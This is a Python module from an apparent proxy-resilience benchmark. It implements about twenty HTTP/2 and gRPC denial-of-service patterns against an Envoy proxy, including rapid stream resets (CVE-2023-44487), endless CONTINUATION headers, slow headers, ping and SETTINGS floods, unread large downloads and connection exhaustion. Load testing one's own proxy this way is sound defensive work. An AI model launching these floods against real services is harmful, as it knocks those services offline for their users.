"""What clients do that hurts: each abuse goes on until its process is killed.

An abuse is a program of its own (`python -m bench.abuse.abuses NAME ADDRESS`), which says `abusing` when it
is in full effect. The bench measures the other clients meanwhile, and the tests call for them.
"""

import asyncio
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from itertools import count

from grpc import aio

from bench.abuse import frames
from bench.abuse.frames import frame, headers_frame

MIB = 1024 * 1024
SERVICE = "/learning.v1.Lessons"
CHUNK = 16_384
LARGE = 8 * MIB
NO_READ_BUFFER = 4096  # of a socket that is never read, so that what is not read stays in Envoy

_said = threading.Event()


def _abusing() -> None:
    """Say once that the abuse is in full effect."""
    if not _said.is_set():
        _said.set()
        print("abusing", flush=True)


def _request(method: str, *more: tuple[bytes, bytes]) -> tuple[tuple[bytes, bytes], ...]:
    path = (b":path", f"{SERVICE}/{method}".encode())
    return (*(path if name == b":path" else (name, value) for name, value in frames.REQUEST), *more)


def _forget(connection: socket.socket, ended: threading.Event) -> None:
    """Read what arrives and forget it, as a client that is only busy does."""
    with suppress(OSError):
        while connection.recv(1 << 16):
            pass
    ended.set()


def _reading(address: str) -> tuple[socket.socket, threading.Event]:
    connection, ended = frames.connected(address), threading.Event()
    threading.Thread(target=_forget, args=(connection, ended), daemon=True).start()
    return connection, ended


def _again_and_again(
    address: str, data: Callable[[int], bytes], *, read: bool = True, rest: float = 0
) -> None:
    """Send `data` of 0, 1, 2 and so on over one connection; open the next if the proxy closes it."""
    while True:
        connection = _reading(address)[0] if read else frames.connected(address)
        with connection, suppress(OSError):
            for number in count():
                connection.sendall(data(number))
                if number == 3:
                    _abusing()
                time.sleep(rest)
        _abusing()
        time.sleep(0.01)


def _unread_downloads(address: str, streams: int, connections: int = 1) -> None:
    """Open downloads of 8 MB each, offer no window for them, and never read."""
    opened: list[socket.socket] = []
    for _ in range(connections):
        connection = socket.create_connection((address, 50051))
        no_window = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
        connection.sendall(frames.PREFACE + frame(frames.SETTINGS, payload=no_window))
        opened.append(connection)
        for number in range(streams):
            connection.sendall(headers_frame(2 * number + 1, _request("Download")))
            connection.sendall(frame(frames.DATA, 2 * number + 1, frames.GRPC_MESSAGE, frames.END_STREAM))
            # A grpcio server itself cancels calls at random while more than 1,000 wait for it to begin them.
            time.sleep(0.001)
    _settle(opened)


def _settle(opened: list[socket.socket]) -> None:
    """Keep connections open, and read nothing of them."""
    time.sleep(1)
    _abusing()
    while opened:
        time.sleep(1)


def _forty_unread_downloads(address: str) -> None:
    _unread_downloads(address, 40)


def _thousand_unread_downloads(address: str) -> None:
    _unread_downloads(address, 1000)


def _unread_downloads_by_three(address: str) -> None:
    _unread_downloads(address, 1000, 3)


def _unread_socket(address: str) -> None:
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, NO_READ_BUFFER)
    connection.connect((address, 50051))
    most = (2**31 - 1).to_bytes(4, "big")
    connection.sendall(frames.PREFACE + frame(frames.SETTINGS, payload=(4).to_bytes(2, "big") + most))
    connection.sendall(frame(frames.WINDOW_UPDATE, payload=(2**31 - 1 - 65_535).to_bytes(4, "big")))
    for number in range(40):
        connection.sendall(headers_frame(2 * number + 1, _request("Download")))
        connection.sendall(frame(frames.DATA, 2 * number + 1, frames.GRPC_MESSAGE, frames.END_STREAM))
    _settle([connection])


def _idle_streams(address: str) -> None:
    opened: list[socket.socket] = []
    for _ in range(3):
        connection, _ = _reading(address)
        opened.append(connection)
        for number in range(1000):
            connection.sendall(headers_frame(2 * number + 1, _request("Wait")))
    _settle(opened)


def _large_messages(address: str) -> None:

    async def flood() -> None:
        options = [("grpc.max_receive_message_length", 64 * MIB), ("grpc.max_send_message_length", 64 * MIB)]
        async with aio.insecure_channel(f"{address}:50051", options=options) as channel:
            echo: aio.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(f"{SERVICE}/Echo")

            async def one_after_another() -> None:
                for number in count():
                    with suppress(aio.AioRpcError):
                        await echo(bytes(LARGE), timeout=60)
                    if number == 0:
                        _abusing()

            await asyncio.gather(*(one_after_another() for _ in range(4)))

    asyncio.run(flood())


def _rapid_resets(address: str) -> None:

    def data(number: int) -> bytes:
        first = 200 * number + 1
        return b"".join(
            headers_frame(stream, frames.REQUEST, last=True)
            + frame(frames.RST_STREAM, stream, (8).to_bytes(4, "big"))
            for stream in range(first, first + 200, 2)
        )

    _again_and_again(address, data, rest=0.001)


def _large_headers(address: str) -> None:
    fragments = [
        frames.header_block(
            _request("Get", (b"x-large", bytes([65]) * 60_000), (b"x-more", bytes([66]) * 40_000))
        )
    ]

    def data(number: int) -> bytes:
        stream, block = 2 * number + 1, fragments[0]
        parts = [block[begin : begin + CHUNK] for begin in range(0, len(block), CHUNK)]
        sent = frame(frames.HEADERS, stream, parts[0], 0)
        for index, part in enumerate(parts[1:], 2):
            sent += frame(frames.CONTINUATION, stream, part, frames.END_HEADERS if index == len(parts) else 0)
        return sent + frame(frames.DATA, stream, frames.GRPC_MESSAGE, frames.END_STREAM)

    _again_and_again(address, data, rest=0.02)


def _slow_headers(address: str) -> None:
    opened = [frames.connected(address) for _ in range(200)]
    for connection in opened:
        connection.sendall(frame(frames.HEADERS, 1, frames.header_block(frames.REQUEST[:1]), 0))
    block = frames.header_block(((b"x-slow", b"slow"),))
    while True:
        for connection in opened:
            with suppress(OSError):
                connection.sendall(frame(frames.CONTINUATION, 1, block))
        time.sleep(0.5)
        _abusing()


def _pings(address: str) -> None:
    many = frame(frames.PING, payload=bytes(8)) * 100
    _again_and_again(address, lambda _: many, rest=0.001)


def _unread_pings(address: str) -> None:
    many = frame(frames.PING, payload=bytes(8)) * 100
    _again_and_again(address, lambda _: many, read=False, rest=0.001)


def _settings(address: str) -> None:

    def data(number: int) -> bytes:
        if number == 0:
            return b"".join(headers_frame(2 * each + 1, _request("Wait")) for each in range(100))
        return b"".join(
            frame(frames.SETTINGS, payload=(4).to_bytes(2, "big") + size.to_bytes(4, "big"))
            for size in range(1000, 1020)
        )

    _again_and_again(address, data, rest=0.001)


def _continuations(address: str) -> None:

    def data(number: int) -> bytes:
        if number == 0:
            return frame(frames.HEADERS, 1, frames.header_block(frames.REQUEST), 0)
        return frame(frames.CONTINUATION, 1, frames.header_block(((b"x-%d" % number, bytes([65]) * 8000),)))

    _again_and_again(address, data, rest=0.001)


def _empty_data(address: str) -> None:

    def data(number: int) -> bytes:
        if number == 0:
            return headers_frame(1, _request("Wait"))
        update = frame(frames.WINDOW_UPDATE, 1, (1).to_bytes(4, "big"))
        return (frame(frames.DATA, 1) + update) * 50

    _again_and_again(address, data, rest=0.001)


def _half_open(address: str) -> None:
    _settle([socket.create_connection((address, 50051)) for _ in range(200)])


def _garbage(address: str) -> None:
    block = bytes(range(256)) * 16
    for number in count():
        with suppress(OSError), socket.create_connection((address, 50051)) as connection:
            connection.sendall((frames.PREFACE if number % 2 else b"") + block)
        if number == 20:
            _abusing()
        time.sleep(0.005)


def _connections(address: str) -> None:
    opened: list[socket.socket] = []
    for number in count():
        with suppress(OSError):
            opened.append(frames.connected(address))
        if number == 1200:
            _abusing()
        if len(opened) > 1200:
            opened.pop(0).close()
        time.sleep(0.001)


def _deaf_uploads(address: str) -> None:
    for _ in range(60):
        connection, _ = _reading(address)
        threading.Thread(target=_upload, args=(connection, 16), daemon=True).start()
    time.sleep(1)
    _abusing()
    time.sleep(3600)


def _flood(address: str, method: str, calls: int, rest: float) -> None:
    """Make so many calls at once on each of four connections, rest, and begin again."""
    source = f"{address.rpartition('.')[0]}.99"  # another address than that of the other clients

    def send(connection: socket.socket) -> None:
        with suppress(OSError):
            for number in count():
                streams = range(2 * number * calls + 1, 2 * (number + 1) * calls + 1, 2)
                connection.sendall(
                    b"".join(
                        headers_frame(stream, _request(method))
                        + frame(frames.DATA, stream, frames.GRPC_MESSAGE, frames.END_STREAM)
                        for stream in streams
                    )
                )
                time.sleep(rest)

    for _ in range(4):
        connection = frames.connected(address, source)
        threading.Thread(target=send, args=(connection,), daemon=True).start()
        threading.Thread(target=_forget, args=(connection, threading.Event()), daemon=True).start()
    time.sleep(1)
    _abusing()
    time.sleep(3600)


def _flood_of_tasks(address: str) -> None:
    _flood(address, "Slow", 8, 0.01)


def _flood_of_proxy(address: str) -> None:
    _flood(address, "Get", 200, 0)


def _upload(connection: socket.socket, streams: int) -> None:
    with suppress(OSError):
        for number in range(streams):
            connection.sendall(headers_frame(2 * number + 1, _request("Deaf")))
        for _ in range(2 * MIB // CHUNK):
            for number in range(streams):
                connection.sendall(frame(frames.DATA, 2 * number + 1, bytes(CHUNK)))
                time.sleep(0.001)
        time.sleep(3600)


@dataclass(frozen=True)
class Abuse:
    """An abuse: what it is called on the page, and what does it to the proxy at an address."""

    title: str
    abuse: Callable[[str], None]


ABUSES = {
    "forty-unread-downloads": Abuse("40 downloads of 8 MB that nobody reads", _forty_unread_downloads),
    "thousand-unread-downloads": Abuse(
        "1,000 downloads of 8 MB that nobody reads", _thousand_unread_downloads
    ),
    "unread-downloads-by-three": Abuse(
        "3,000 downloads of 8 MB that nobody reads", _unread_downloads_by_three
    ),
    "unread-socket": Abuse("40 downloads into a socket that nobody reads", _unread_socket),
    "idle-streams": Abuse("3,000 open calls that send nothing", _idle_streams),
    "large-messages": Abuse("messages of 8 MB both ways, four at a time", _large_messages),
    "rapid-resets": Abuse("calls that are reset at once (CVE-2023-44487)", _rapid_resets),
    "large-headers": Abuse("calls with 100 KB of headers, 50 a second", _large_headers),
    "slow-headers": Abuse("200 connections whose headers arrive byte by byte", _slow_headers),
    "pings": Abuse("PINGs", _pings),
    "unread-pings": Abuse("PINGs whose answers nobody reads", _unread_pings),
    "settings": Abuse("SETTINGS that change the window of 100 calls", _settings),
    "continuations": Abuse("headers that never end (CONTINUATION)", _continuations),
    "empty-data": Abuse("DATA frames without data, and WINDOW_UPDATEs of one byte", _empty_data),
    "half-open": Abuse("200 connections that send nothing", _half_open),
    "garbage": Abuse("connections that send garbage, 200 a second", _garbage),
    "connections": Abuse("1,200 connections, closed and opened again", _connections),
    "deaf-uploads": Abuse("1,000 uploads to a method that reads nothing", _deaf_uploads),
}


FLOODS = {
    "flood-of-tasks": Abuse("3,200 calls a second, ten times what the tasks can do", _flood_of_tasks),
    "flood-of-proxy": Abuse("calls as fast as the proxy takes them", _flood_of_proxy),
}
"""Calls like those of others, so that a limit decides: `client_calls_per_second`, or `max_open_calls`."""


if __name__ == "__main__":
    (ABUSES | FLOODS)[sys.argv[1]].abuse(sys.argv[2])
